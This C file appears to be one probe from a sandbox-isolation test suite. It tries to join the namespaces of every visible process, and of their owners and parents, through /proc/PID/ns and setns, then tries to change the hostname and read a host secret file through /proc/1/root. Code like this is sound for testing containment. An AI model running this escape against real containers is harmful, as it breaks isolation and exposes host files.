/* Joins the namespaces of the host, by /proc/PID/ns and by the parents of its own (setns(2), ioctl_ns(2)). */
#include "common/attack.h"

static void attempt(void) {
    static const char *kinds[] = {"user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"};
    for (int pid = 1; pid < PIDS; pid++) {
        for (unsigned i = 0; i < 8; i++) {
            char path[64], text[160];
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, kinds[i]);
            int fd = open(path, O_RDONLY);
            if (fd < 0) {
                continue;
            }
            int owner = ioctl(fd, 0xb701 /* NS_GET_USERNS */), parent = ioctl(fd, 0xb702 /* NS_GET_PARENT */);
            int joined = setns(fd, 0) == 0, owned = setns(owner, 0) == 0, above = setns(parent, 0) == 0;
            snprintf(text, sizeof text, "%s joined %d owner %d parent %d", path, joined, owned, above);
            said(text, 0);
            close(fd);
            close(owner);
            close(parent);
        }
    }
    TRY(sethostname(MARK, strlen(MARK)));
    show("/etc/secret");
    show("/proc/1/root/etc/secret");
}
